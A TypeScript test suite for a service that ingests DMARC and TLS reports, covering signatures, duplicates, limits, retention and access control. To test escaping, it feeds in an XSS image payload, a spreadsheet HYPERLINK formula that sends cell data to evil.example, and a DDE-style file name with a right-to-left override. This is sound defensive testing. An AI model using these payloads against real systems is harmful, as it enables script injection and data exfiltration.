// Deliverability reports arrive over SMTP, as forwarded emails, or as uploads. Each report counts
// once, and only signed reports are evidence.
import { gzipSync } from 'node:zlib';
import nodemailer from 'nodemailer';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { decodeId } from '#platform/ids.ts';
import { clock } from '#platform/server/clock.ts';
import { formatCsvLine } from '#platform/server/files/csv.ts';
import { files } from '#platform/server/files/files.ts';
import { startReturnPath } from '#providers/return-path/index.ts';
import type { SmtpPort } from '#providers/smtp-port.ts';
import { type TestDns, testDns } from '#testing/servers/dns-server.ts';
import {
  type TestClient,
  type TestOwner,
  type TestServer,
  testServer,
} from '#testing/setup/server.ts';
import { upload } from '#testing/setup/upload.ts';
import {
  renderDmarcXml,
  renderForwardedEmail,
  OWN_ROW,
  reportEmail,
  type SampleReport,
  signReport,
  signEmail,
  signingRecord,
  renderTlsJson,
} from '#testing/worlds/dmarc-reports.ts';
import type { DomainReports } from '../contract.ts';
import { acceptsReportFor, MAX_REPORT_BYTES, receiveReport, removeOldReports } from './index.ts';

const API = '/client-api/api/deliverability';
const BOUNCES = 'bounces.loom.example';
const DAY = 86_400;

let server: TestServer;
let dns: TestDns;
let port: SmtpPort;
let owner: TestOwner;
let domain: { id: string; address: string };

beforeAll(async () => {
  dns = await testDns();
  for (const name of ['receiver.example', 'other.example']) {
    const record = signingRecord(name);
    dns.zone.set(record.name, { TXT: [record.value] });
  }
  server = await testServer({
    DNS_SERVERS: dns.address,
    BOUNCE_DOMAIN: BOUNCES,
    RETURN_SMTP_PORT: '2525',
    SMTP_URL: 'smtp://127.0.0.1:2525',
    SIGN_UP: 'open',
    PUBLIC_URL: 'https://app.loom.example',
  });
  owner = await server.owner();
  domain = await addDomain(owner, 'tea.example');
  port = await startReturnPath({
    host: '127.0.0.1',
    port: 0,
    handlers: [
      {
        accepts: acceptsReportFor,
        handle: (email) => receiveReport(server.db, email),
        maxBytes: MAX_REPORT_BYTES,
        maxInMemory: 4,
      },
    ],
    onError: (error) => {
      throw error;
    },
  });
});
afterAll(async () => {
  await port.close();
  await dns.close();
});
afterEach(() => clock.reset());

async function addDomain(client: TestClient, name: string) {
  const { body } = await client.post('/client-api/api/domains', { email: `a@${name}` });
  return { id: body.data.id as string, address: body.data.reports.address as string };
}

/** Returns the data of a report for yesterday, neither too old nor in the future. */
function sample(changes: SampleReport = {}): SampleReport {
  const begin = Math.floor(clock.now().getTime() / 1000 / DAY - 1) * DAY;
  return { id: `report-${Math.random()}`, begin, end: begin + DAY - 1, ...changes };
}

function send(recipient: string, raw: Buffer) {
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port: port.port });
  return transport.sendMail({ envelope: { from: '', to: recipient }, raw });
}

async function receive(raw: Buffer, recipient = domain.address) {
  await send(recipient, raw);
  await server.runJobs();
}

const readNewestFile = async (client: TestClient = owner) =>
  (await client.get(`${API}/files`)).body.data[0];

const reportsOf = async (id = domain.id, client: TestClient = owner): Promise<DomainReports> =>
  (await client.get(`${API}/domains/${id}`)).body.data;

/**
 * Adds an owner with a separate domain, so that reports of other tests do not change its counts.
 */
async function createDomainOwner(name: string): Promise<TestOwner & { domain: typeof domain }> {
  const client = await server.owner();
  return Object.assign(client, { domain: await addDomain(client, name) });
}

describe('reports by email', () => {
  test('a report is counted once, with its signer and sources', async () => {
    const rows = [
      { ...OWN_ROW, count: 70 },
      {
        count: 20,
        dkim: [{ domain: 'tea.example', selector: 'google' }],
        ip: '203.0.113.5',
      },
      {
        count: 10,
        dkimAligned: false,
        spfAligned: false,
        ip: '198.51.100.9',
        disposition: 'reject',
      },
    ];
    const email = await signReport(sample({ rows }));
    await receive(email);
    // A second MX delivers the same report again, with different header fields at the top.
    await receive(Buffer.concat([Buffer.from('Received: from mx2\r\n'), email]));
    expect((await readNewestFile()).state).toBe('duplicate');
    const reports = await reportsOf();
    expect(reports).toMatchObject({
      domain_name: 'tea.example',
      totals: { messages: 100, aligned: 90, unsigned: 0 },
      advice: { code: 'name_source', source: 'selector:tea.example/google', messages: 20 },
      reporters: [{ name: 'receiver.example', signed: true, reports: 1, messages: 100 }],
    });
    expect(reports.checklist.map(({ state }) => state)).toEqual([
      ...['unknown', 'unknown', 'unknown', 'unknown', 'met', 'unknown', 'unknown', 'unknown'],
    ]);
    expect(reports.days).toMatchObject([{ aligned: 90, failed: 10 }]);
    expect(reports.sources).toMatchObject([
      { source: 'ours', verdict: 'ours', messages: 70, aligned: 70, dkim: 70, spf: 70 },
      {
        kind: 'selector',
        suggestion: 'Google Workspace',
        addresses: ['203.0.113.5'],
        messages: 20,
      },
      { source: 'network:198.51.100.0/24', verdict: 'unknown', refused: 10 },
    ]);
  });

  test('reports sent to the lowercase address or to the shared host are assigned to their domain', async () => {
    const domainOwner = await createDomainOwner('cake.example');
    const recipient = domainOwner.domain.address.toLowerCase();
    await receive(await signReport(sample({ domain: 'cake.example' })), recipient);
    const sharedAddress = `${recipient.slice(0, recipient.indexOf('@'))}@${BOUNCES}`;
    await receive(await signReport(sample({ domain: 'news.cake.example' })), sharedAddress);
    expect((await reportsOf(domainOwner.domain.id, domainOwner)).reporters[0]?.reports).toBe(2);
  });

  test('reports without a valid signature are shown separately, and a signed report replaces them', async () => {
    const domainOwner = await createDomainOwner('jam.example');
    const report = sample({ domain: 'jam.example', rows: [{ count: 9 }] });
    const email = reportEmail(gzipSync(renderDmarcXml(report)));
    await receive(email, domainOwner.domain.address);
    // The first email is signed by a domain other than the sender's. The second signature covers
    // only 20 bytes of the body.
    await receive(await signEmail(email, 'other.example'), domainOwner.domain.address);
    await receive(await signEmail(email, 'receiver.example', 20), domainOwner.domain.address);
    expect(await reportsOf(domainOwner.domain.id, domainOwner)).toMatchObject({
      totals: { messages: 0, unsigned: 9 },
      advice: { code: 'unsigned' },
    });
    await receive(await signEmail(email), domainOwner.domain.address);
    await receive(email, domainOwner.domain.address);
    expect(await reportsOf(domainOwner.domain.id, domainOwner)).toMatchObject({
      totals: { messages: 9, unsigned: 0 },
      reporters: [{ signed: true, reports: 1 }],
    });
  });

  test('a report forwarded as an attachment is still treated as signed', async () => {
    const domainOwner = await createDomainOwner('pie.example');
    const forwardedMessage = renderForwardedEmail(
      await signReport(sample({ domain: 'pie.example' })),
    );
    await receive(forwardedMessage, domainOwner.domain.address);
    expect((await reportsOf(domainOwner.domain.id, domainOwner)).reporters).toMatchObject([
      { name: 'receiver.example', signed: true },
    ]);
  });

  test('reports that are unreadable, or about other domains or invalid days, are ignored', async () => {
    const domainOwner = await createDomainOwner('bun.example');
    const states: [string, string | null][] = [];
    const begin = sample().begin as number;
    for (const report of [
      { domain: 'tea.example' },
      { domain: 'example' },
      { domain: 'bun.example', begin: begin - 61 * DAY, end: begin - 60 * DAY },
      { domain: 'bun.example', end: begin + 8 * DAY },
      { domain: 'bun.example', begin: begin + 4 * DAY, end: begin + 5 * DAY },
    ]) {
      await receive(await signReport(sample(report)), domainOwner.domain.address);
      const { state, fault } = await readNewestFile(domainOwner);
      states.push([state, fault]);
    }
    await receive(Buffer.from('From: a@b.example\r\n\r\nHello'), domainOwner.domain.address);
    const { state, fault } = await readNewestFile(domainOwner);
    expect([...states, [state, fault]]).toEqual([
      ['foreign', 'foreign_domain'],
      ['foreign', 'foreign_domain'],
      ['unreadable', 'too_old'],
      ['unreadable', 'range_too_long'],
      ['unreadable', 'in_future'],
      ['unreadable', 'no_report'],
    ]);
    expect((await reportsOf(domainOwner.domain.id, domainOwner)).reporters).toEqual([]);
    expect((await readNewestFile(domainOwner)).id).not.toBe((await readNewestFile()).id);
  });

  test('reports to forged addresses and for removed domains are refused', async () => {
    const [local = '', host = ''] = domain.address.split('@');
    const lastCharacter = local.endsWith('0') ? '1' : '0';
    for (const forgedAddress of [
      `${local.slice(0, -1)}${lastCharacter}@${host}`,
      `r+${'0'.repeat(40)}@${host}`,
    ]) {
      expect(acceptsReportFor(forgedAddress)).toBe(false);
    }
    const domainOwner = await createDomainOwner('gone.example');
    await domainOwner.delete(`/client-api/api/domains/${domainOwner.domain.id}`);
    const email = await signReport(sample({ domain: 'gone.example' }));
    await expect(send(domainOwner.domain.address, email)).rejects.toMatchObject({
      responseCode: 550,
    });
  });

  test('reports larger than 10 MB, and reports after 2,000 on one day, are refused', async () => {
    const oversizedFile = Buffer.concat([reportEmail('x'), Buffer.alloc(MAX_REPORT_BYTES, '\r\n')]);
    await expect(send(domain.address, oversizedFile)).rejects.toMatchObject({ responseCode: 552 });
    const domainOwner = await createDomainOwner('busy.example');
    const row = {
      account_id: domainOwner.accountId,
      domain_id: decodeId('domain', domainOwner.domain.id) as number,
      ...{ origin: 'email', name: '', bytes: 1, state: 'parsed' },
    };
    const rows = Array.from({ length: 2000 }, (_, n) => ({
      ...row,
      file_key: `none/${n}`,
      created_at: clock.now(),
    }));
    await server.db.insertInto('report_files').values(rows).execute();
    const email = await signReport(sample({ domain: 'busy.example' }));
    await expect(send(domainOwner.domain.address, email)).rejects.toMatchObject({
      responseCode: 452,
    });
    clock.advance(DAY * 1000 + 1000);
    await send(domainOwner.domain.address, email);
  });

  test('reports are deleted if their domain is removed before they are read', async () => {
    const domainOwner = await createDomainOwner('short.example');
    await send(domainOwner.domain.address, await signReport(sample({ domain: 'short.example' })));
    await domainOwner.delete(`/client-api/api/domains/${domainOwner.domain.id}`);
    await server.runJobs();
    const keys = await Array.fromAsync(files.list());
    expect(keys.filter((key) => key.startsWith(`report-files/${domainOwner.accountId}/`))).toEqual(
      [],
    );
  });

  test('report names with markup or formulas are shown and exported as text', async () => {
    const domainOwner = await createDomainOwner('mint.example');
    const escapeHtml = (text: string) =>
      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    const image = '<img src=x onerror="alert(1)">';
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Report")';
    for (const name of [image, formula].map(escapeHtml)) {
      const dkim = [{ domain: 'mint.example', selector: name }];
      const rows = [{ dkim, headerFrom: 'mint.example' }];
      const xml = renderDmarcXml(sample({ organization: name, domain: 'mint.example', rows }));
      await receive(reportEmail(xml), domainOwner.domain.address);
    }
    const { begin, end } = sample() as { begin: number; end: number };
    const tls = { organization: `\r\n${formula}`, domain: 'mint.example', begin, end };
    await receive(reportEmail(renderTlsJson(tls)), domainOwner.domain.address);
    const response = await domainOwner.get(`${API}/domains/${domainOwner.domain.id}`);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    const { reporters, sources } = response.body.data as DomainReports;
    const names = reporters.map(({ name }) => name);
    expect(names.toSorted()).toEqual([image, formula].toSorted());
    expect(sources.map(({ name }) => name).toSorted()).toEqual(
      [image, formula].map((name) => `mint.example/${name.toLowerCase()}`).toSorted(),
    );
    const storedReport = await server.db
      .selectFrom('domain_reports')
      .select('organization')
      .where('account_id', '=', domainOwner.accountId)
      .execute();
    expect(storedReport).toHaveLength(3);
    // Each name is on one line and is never evaluated by a spreadsheet.
    for (const { organization } of storedReport) {
      expect(organization).not.toMatch(/[\r\n\t]/);
      expect(formatCsvLine([organization])).toMatch(/^("?'=|"<img )/);
    }
  });

  test('the reports of one day are stored in a limited number of rows that cover all messages', async () => {
    const domainOwner = await createDomainOwner('many.example');
    const rows = (from: number) =>
      Array.from({ length: 3000 }, (_, n) => ({
        ip: `10.${from}.${n >> 8}.${n & 255}`,
        dkimAligned: false,
        spfAligned: false,
      }));
    for (const from of [1, 2]) {
      const report = sample({ domain: 'many.example', rows: rows(from) });
      await receive(await signReport(report), domainOwner.domain.address);
    }
    expect((await reportsOf(domainOwner.domain.id, domainOwner)).totals.messages).toBe(6000);
    const { count } = await server.db
      .selectFrom('dmarc_sums')
      .select((eb) => eb.fn.countAll<number>().as('count'))
      .where('account_id', '=', domainOwner.accountId)
      .executeTakeFirstOrThrow();
    expect(count).toBe(5001);
  });

  test('TLS reports are summed with their failures', async () => {
    const domainOwner = await createDomainOwner('fig.example');
    const { begin, end } = sample() as { begin: number; end: number };
    const compressed = gzipSync(renderTlsJson({ domain: 'fig.example', begin, end }));
    const email = reportEmail(compressed, { type: 'application/tlsrpt+gzip', name: 'r.json.gz' });
    await receive(await signEmail(email), domainOwner.domain.address);
    expect((await reportsOf(domainOwner.domain.id, domainOwner)).tls).toEqual({
      sessions: 12,
      failures: 3,
      results: [{ result: 'unknown', sessions: 3 }],
    });
  });
});

describe('the proposed DMARC record', () => {
  test('adds the address to the current record until the address is published', async () => {
    const domainOwner = await createDomainOwner('rye.example');
    const url = `/client-api/api/domains/${domainOwner.domain.id}`;
    const readDmarc = async (records: string[]) => {
      dns.zone.set('_dmarc.rye.example', { TXT: records });
      const { data } = (await domainOwner.post(`${url}/check`)).body;
      const record = data.records.find(({ purpose }: { purpose: string }) => purpose === 'dmarc');
      const isRequested = data.reports.requested as boolean;
      return {
        value: record.value as string,
        state: record.state as string,
        requested: isRequested,
      };
    };
    const rua = `mailto:${domainOwner.domain.address}`;
    expect((await readDmarc([])).value).toBe(`v=DMARC1; p=none; rua=${rua}`);
    const longRecord = `v=DMARC1; p=reject; rua=mailto:${'d'.repeat(60)}@x.example; ruf=mailto:${'e'.repeat(300)}@x.example`;
    const addedRecord = await readDmarc([longRecord]);
    expect(addedRecord).toMatchObject({ state: 'ok', requested: false });
    expect(addedRecord.value).toBe(longRecord.replace('x.example;', `x.example,${rua};`));
    expect(await readDmarc([addedRecord.value])).toEqual({ ...addedRecord, requested: true });
    // Receivers ignore both records, so only the first one should remain.
    const double = await readDmarc(['v=DMARC1; p=quarantine', 'v=DMARC1; p=none']);
    expect(double).toMatchObject({ state: 'different', requested: false });
    expect(double.value).toBe(`v=DMARC1; p=quarantine; rua=${rua}`);
  });

  test('preserves the policy found by a check of an earlier release', async () => {
    const domainOwner = await createDomainOwner('soy.example');
    const records = [
      { purpose: 'dmarc', name: '_dmarc.soy.example', state: 'ok', found: ['v=DMARC1; p=reject'] },
    ];
    await server.db
      .updateTable('domains')
      .set({ dns_status: JSON.stringify({ records }) })
      .where('account_id', '=', domainOwner.accountId)
      .execute();
    const { data } = (await domainOwner.get(`/client-api/api/domains/${domainOwner.domain.id}`))
      .body;
    const record = data.records.find(({ purpose }: { purpose: string }) => purpose === 'dmarc');
    expect(record.value).toBe(`v=DMARC1; p=reject; rua=mailto:${domainOwner.domain.address}`);
  });
});

describe('uploaded reports', () => {
  const uploadFile = (client: TestClient, bytes: Buffer, name = 'r.xml') =>
    upload(client, bytes, name, `${API}/files`);

  test('uploaded reports are stored for the domain that they are about, and an original email proves its reporter', async () => {
    const domainOwner = await createDomainOwner('nut.example');
    await addDomain(domainOwner, 'shop.nut.example');
    const bytes = Buffer.from(renderDmarcXml(sample({ domain: 'shop.nut.example' })));
    const response = await uploadFile(domainOwner, bytes, '=cmd|x\u202e.xml');
    expect(response).toMatchObject({ status: 200, body: { data: { state: 'waiting' } } });
    await uploadFile(
      domainOwner,
      await signReport(sample({ domain: 'nut.example' })),
      'original.eml',
    );
    await uploadFile(domainOwner, bytes);
    await uploadFile(
      domainOwner,
      Buffer.from(renderDmarcXml(sample({ domain: 'stranger.example' }))),
    );
    await server.runJobs();
    const list = (await domainOwner.get(`${API}/files`)).body.data;
    expect(list.map((file: { state: string }) => file.state).toSorted()).toEqual([
      'duplicate',
      'foreign',
      'parsed',
      'parsed',
    ]);
    const domains = (await domainOwner.get(`${API}/domains`)).body.data;
    expect(domains.map(({ domain_name, totals }: DomainReports) => [domain_name, totals])).toEqual([
      ['nut.example', { messages: 1, aligned: 1, unsigned: 0 }],
      ['shop.nut.example', { messages: 0, aligned: 0, unsigned: 1 }],
    ]);
  });

  test('empty, missing and oversized files are refused', async () => {
    expect((await uploadFile(owner, Buffer.alloc(0))).body.code).toBe('file_empty');
    expect((await owner.post(`${API}/files`, {})).body.code).toBe('file_missing');
    expect((await uploadFile(owner, Buffer.alloc(MAX_REPORT_BYTES + 1))).body.code).toBe(
      'file_too_large',
    );
  });
});

describe('the verdict about a source', () => {
  test('the verdict about a source can be set, changed and removed, but not by other accounts', async () => {
    const domainOwner = await createDomainOwner('oat.example');
    const rows = [
      { ...OWN_ROW, count: 20, dkim: [{ domain: 'oat.example', selector: 'k1' }], spf: [] },
    ];
    await receive(
      await signReport(sample({ domain: 'oat.example', rows })),
      domainOwner.domain.address,
    );
    const source = 'selector:oat.example/k1';
    const url = `${API}/domains/${domainOwner.domain.id}/sources`;
    const verdict = async () => {
      const { sources, advice } = await reportsOf(domainOwner.domain.id, domainOwner);
      return [sources[0]?.verdict, sources[0]?.title, advice.code];
    };
    expect(await verdict()).toEqual(['unknown', '', 'name_source']);
    expect((await domainOwner.put(url, { source, verdict: 'known' })).status).toBe(200);
    expect(await verdict()).toEqual(['known', 'Mailchimp', 'more_evidence']);
    await domainOwner.put(url, { source, verdict: 'known', title: ' Shop ' });
    expect(await verdict()).toEqual(['known', 'Shop', 'more_evidence']);
    await domainOwner.put(url, { source, verdict: 'abuse' });
    expect((await verdict())[0]).toBe('abuse');
    await domainOwner.put(url, { source, verdict: 'unknown' });
    expect(await verdict()).toEqual(['unknown', '', 'name_source']);
    const rejection = await domainOwner.put(url, {
      source: 'network:192.0.2.0/24',
      verdict: 'known',
    });
    expect(rejection.body.errors).toHaveProperty('title');
    expect((await domainOwner.put(url, { source: 'ours', verdict: 'abuse' })).status).toBe(422);
    const otherOwner = await server.owner();
    expect((await otherOwner.put(url, { source, verdict: 'abuse' })).status).toBe(404);
    expect((await otherOwner.get(`${API}/domains/${domainOwner.domain.id}`)).status).toBe(404);
    expect((await otherOwner.get(`${API}/files`)).body.data).toEqual([]);
  });
});

test('reports and their sums are removed after 400 days', async () => {
  const domainOwner = await createDomainOwner('old.example');
  await receive(await signReport(sample({ domain: 'old.example' })), domainOwner.domain.address);
  const countRows = async () => {
    const counts = [];
    for (const table of ['dmarc_sums', 'domain_reports', 'report_files'] as const) {
      const rows = await server.db
        .selectFrom(table)
        .select('account_id')
        .where('account_id', '=', domainOwner.accountId)
        .execute();
      counts.push(rows.length);
    }
    return counts;
  };
  clock.advance(399 * DAY * 1000);
  await removeOldReports(server.db, domainOwner.accountId);
  expect(await countRows()).toEqual([1, 1, 0]);
  clock.advance(3 * DAY * 1000);
  await removeOldReports(server.db, domainOwner.accountId);
  expect(await countRows()).toEqual([0, 0, 0]);
});
